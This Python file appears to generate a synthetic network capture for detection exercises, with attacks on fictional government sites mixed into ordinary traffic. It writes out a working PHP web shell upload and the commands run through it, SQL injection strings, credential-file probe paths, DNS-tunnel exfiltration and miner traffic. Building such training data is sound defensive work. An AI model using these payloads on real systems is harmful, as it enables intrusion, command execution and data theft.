# SPDX-License-Identifier: Apache-2.0
#
# The attacks that stand among the ordinary traffic, each told as one function. Which rules they meet is
# written in README.md.
"""Attacks in the sample capture."""

import base64
import json

import certificates
import messages as m
from frames import Connection, at
from office import ASET, CHROME, DATA_CENTRE, GOOGLEBOT, IZIN, LAMA, PHONE, SAKIP, SIMPEG, page

SHELL = "/uploads/files/surat_edaran.php"


def gambling_page(office):
    """A crawler asks the PPID site for a doorway page and gets it; the agency's own visitors see nothing."""
    body = ("<!doctype html><html><head><title>ABC88 Slot Gacor Hari Ini</title></head><body><h1>ABC88</h1>"
            "<p>Slot online gampang menang, maxwin setiap hari, bonus new member, link alternatif.</p>"
            "<p>Daftar sekarang, deposit pulsa tanpa potongan.</p></body></html>")
    visit = ("GET", "/pub/?link=ABC88", (), b"", m.http_response(200, body, gzip=True))
    office.browse(at("16 02:11:40"), "203.0.113.66", "ppid.example.go.id", [visit], GOOGLEBOT, vlans=DATA_CENTRE)
    gone = ("GET", "/pub/", (), b"", m.http_response(404, "<h1>Halaman tidak ditemukan</h1>"))
    office.browse(at("16 09:44:12"), "203.0.113.120", "ppid.example.go.id", [gone], CHROME, vlans=DATA_CENTRE)


def hidden_links(office):
    """The start page of another site carries links that nobody sees."""
    block = ('<div style="position:absolute; left:-9999px"><a href="http://mantul.example/">slot gacor</a> '
             '<a href="http://jaya.example/">situs togel</a> <a href="http://raja.example/">judi bola</a></div>')
    body = m.http_response(200, page(office.noise, "Layanan Perizinan", block))
    office.browse(at("16 10:20:31"), "198.51.100.140", "izin.example.go.id", [("GET", "/", (), b"", body)], CHROME, vlans=DATA_CENTRE)


def web_shell(office):
    """A script is uploaded as an attachment and then told to run commands. audit.log has the other side of it."""
    attacker, host, agent = "203.0.113.54", "ppid.example.go.id", "python-requests/2.31.0"
    mark = "----b7e1"
    upload = (f'--{mark}\r\nContent-Disposition: form-data; name="lampiran"; filename="surat_edaran.php"\r\nContent-Type: image/jpeg\r\n\r\n'
              f"<?php @system($_POST['p']); ?>\r\n--{mark}--\r\n").encode()
    form = (f"Content-Type: multipart/form-data; boundary={mark}",)
    office.browse(at("17 03:10:02"), attacker, host, [
        ("GET", "/permohonan", (), b"", m.http_response(200, page(office.noise, "Permohonan Informasi"))),
        ("POST", "/permohonan/kirim", form, upload, m.http_response(200, "<p>Permohonan diterima.</p>"))], agent, vlans=DATA_CENTRE)
    form = ("Content-Type: application/x-www-form-urlencoded",)
    outputs = ((b"p=id", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
               (b"p=uname+-a", "Linux ppid 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\n"),
               (b"p=ls+/var/www", "html\nppid\n"))
    office.browse(at("17 03:12:20"), attacker, host,
                  [("POST", SHELL, form, body, m.http_response(200, output)) for body, output in outputs], agent, vlans=DATA_CENTRE)


def sql_injection(office):
    attacker, host = "203.0.113.21", "izin.example.go.id"
    tests = ("1%27", "1%27%20or%20%271%27=%271", "-1+UNION+ALL+SELECT+1,2,3--", "-1+UNION+ALL+SELECT+table_name,2,3+FROM+information_schema.tables--",
             "1%27+and+sleep(5)--")
    visits = [("GET", f"/detail?id={text}", (), b"", m.http_response(500 if text == "1%27" else 200, page(office.noise, "Detail Izin", paragraphs=2)))
              for text in tests]
    office.browse(at("16 23:41:05"), attacker, host, visits, CHROME, vlans=DATA_CENTRE)


def probing(office):
    """A scanner walks through its list; one of the files is really there."""
    attacker, host, agent = "203.0.113.72", "sakip.example.go.id", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"
    paths = ("/.git/config", "/.aws/credentials", "/wp-config.php.bak", "/phpinfo.php", "/phpmyadmin/", "/actuator/env", "/solr/admin/info/system",
             "/HNAP1/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/server-status", "/telescope/requests", "/.env")
    visits = []
    for path in paths:
        found = path == "/.env"
        body = "APP_NAME=Sakip\nAPP_ENV=production\nAPP_DEBUG=true\nDB_HOST=10.20.4.40\nDB_PASSWORD=contoh\n" if found else "<h1>404</h1>"
        visits.append(("GET", path, (), b"", m.http_response(200 if found else 404, body, "text/plain" if found else "text/html")))
    office.browse(at("17 01:05:00"), attacker, host, visits, agent, vlans=DATA_CENTRE)


def dns_tunnel(office):
    """A computer of the planning agency sends data out in query names."""
    noise = office.noise
    for number in range(42):
        data = base64.b16encode(noise.take(17)).decode().lower()
        time = at("17 14:02:00") + number * 6_100_000
        office.lookup(time, "10.20.6.44", f"{data}.d1.example.net", "TXT", [("TXT", base64.b64encode(noise.take(30)).decode())])


def mining(office):
    """A miner on the personnel server: name, TLS connection, and Stratum in the clear."""
    noise, pool = office.noise, "198.51.100.200"
    office.lookup(at("17 03:40:00"), SIMPEG, "pool.hashvault.pro", answers=[("A", pool)])
    office.secure(at("17 03:40:01"), SIMPEG, pool, "pool.hashvault.pro", 0x0303, exchanged=(310, 420), vlans=DATA_CENTRE)
    stratum = office.connect(at("17 03:41:00"), SIMPEG, pool, 3333, DATA_CENTRE)
    login = {"id": 1, "jsonrpc": "2.0", "method": "login", "params": {"login": "4" + "A" * 94, "pass": "simpeg", "agent": "XMRig/6.21.0"}}
    stratum.send(0, (json.dumps(login) + "\n").encode())
    job = {"jsonrpc": "2.0", "method": "job", "params": {"blob": noise.take(76).hex(), "job_id": "0", "target": "b88d0600", "height": 3280011}}
    stratum.send(1, (json.dumps(job) + "\n").encode())
    for number in range(4):
        stratum.pause(20)
        share = {"id": number + 2, "method": "submit", "params": {"id": "0", "job_id": "0", "nonce": noise.take(4).hex(), "result": noise.take(32).hex()}}
        stratum.send(0, (json.dumps(share) + "\n").encode())
        stratum.send(1, (json.dumps({"id": number + 2, "jsonrpc": "2.0", "result": {"status": "OK"}}) + "\n").encode())
    stratum.close()


def weak_encryption(office):
    """A password in the clear, a service with TLS 1.0, a certificate that nobody issued."""
    secret = base64.b64encode(b"operator:contoh-sandi").decode()
    visits = [("GET", "/admin/", (), b"", m.http_response(401, "<h1>401</h1>", headers=('WWW-Authenticate: Basic realm="Sakip"',))),
              ("GET", "/admin/", (f"Authorization: Basic {secret}",), b"", m.http_response(200, page(office.noise, "Admin")))]
    office.browse(at("17 09:22:00"), "10.20.7.8", "sakip.example.go.id", visits, server=SAKIP, vlans=DATA_CENTRE)
    office.secure(at("17 10:05:00"), "10.20.7.5", LAMA, "lama.example.go.id", 0x0301, certificates.OLD_SERVICE, vlans=DATA_CENTRE)
    office.secure(at("17 10:15:00"), "10.20.5.31", ASET, "aset.example.go.id", 0x0303, certificates.SELF_SIGNED, vlans=DATA_CENTRE)


def port_scan(office):
    for number, port in enumerate((21, 23, 25, 53, 81, 88, 110, 111, 135, 139, 143, 389, 443, 445, 465, 587, 993, 995, 1080, 1433, 1521, 2049,
                                   3000, 3306, 3389, 5432, 5900, 6379, 8080, 8443)):
        scan = Connection.__new__(Connection)
        scan.capture, scan.time, scan.vlans, scan.delay, scan.window = office.capture, at("18 04:00:00") + number * 700_000, DATA_CENTRE, 900, 1024
        scan.ends, scan.next = (("203.0.113.80", 44_000), (IZIN, port)), [office.noise.number(1, 0xEFFFFFFF), 0]
        scan.segment(0, scan.SYN, options=scan.OPTIONS[:4])
        scan.segment(1, scan.RST | scan.ACK)


def invitation(office):
    """The wedding invitation that is an application."""
    client, server = "10.20.8.77", "198.51.100.88"
    office.lookup(at("18 12:31:00"), client, "undangan-digital.example", answers=[("A", server)])
    body = b"PK\x03\x04" + office.noise.take(5200)
    headers = ("Content-Disposition: attachment; filename=Undangan_Pernikahan.apk",)
    visit = ("GET", "/Undangan_Pernikahan.apk", (), b"", m.http_response(200, body, "application/vnd.android.package-archive", headers))
    office.browse(at("18 12:31:01"), client, "undangan-digital.example", [visit], PHONE, server=server)


def all_attacks(office):
    for story in (gambling_page, hidden_links, web_shell, sql_injection, probing, dns_tunnel, mining, weak_encryption, port_scan, invitation):
        story(office)
